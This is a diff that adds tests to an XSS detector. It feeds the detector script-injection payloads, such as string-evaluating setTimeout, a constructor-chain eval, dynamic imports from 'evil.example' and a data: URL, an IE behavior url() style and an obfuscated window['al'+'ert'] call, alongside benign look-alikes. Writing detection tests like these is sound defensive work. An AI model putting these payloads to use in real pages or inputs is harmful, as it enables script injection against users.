@@ -331,3 +331,52 @@ describe('xss detector', () => {
     assert.deepEqual(found('location.href = "/login"'), []);
   });
 });
+
+describe('xss sinks and CSS in code and prose that only look like them', () => {
+  test('a sink that runs a string counts with one; a function, a declaration or an own module does not', () => {
+    for (const attack of [
+      "setTimeout('alert(1)')",
+      'setTimeout(name)',
+      '[].constructor.constructor("alert(1)")()',
+      "import('//evil.example/x.js')",
+      "import('data:text/javascript,alert(1)')",
+      'import(location.hash.slice(1))',
+    ])
+      assert.ok(strongest(attack, 'body', 'body.q') >= 3, attack);
+    for (const code of [
+      'const id = setTimeout(function () { next() }, 10)',
+      'setInterval(() => tick(), 1000)',
+      'setTimeout(async (done) => done(), 5)',
+      'class Client { constructor(url: string, options?: Options) {} }',
+      "app.register(import('./plugins/auth.js'))",
+      "const { readFile } = await import('node:fs/promises')",
+    ])
+      assert.equal(scores(code, 'body', 'body.q').has('xss.js-sink'), false, code);
+  });
+
+  test("IE's behavior and binding load script through url(); the words in prose do not", () => {
+    assert.equal(strongest('<div style="behavior: url(x.htc)">', 'body', 'body.q'), 5);
+    assert.equal(
+      scores('**Behavior:** logs are batched; the style option sets their format', 'body', 'body.q').has(
+        'xss.css-expression',
+      ),
+      false,
+    );
+    assert.equal(
+      scores('Key binding: Ctrl+Shift+P opens the style editor', 'body', 'body.q').has('xss.css-expression'),
+      false,
+    );
+  });
+
+  test('a computed call on window counts; a Markdown link after the word does not', () => {
+    assert.equal(strongest("window['al'+'ert'](1)", 'body', 'body.q'), 5);
+    assert.equal(
+      scores(
+        'use globalThis instead of window [`#267`](https://github.com/x/y/pull/267)',
+        'body',
+        'body.q',
+      ).has('xss.computed-call'),
+      false,
+    );
+  });
+});
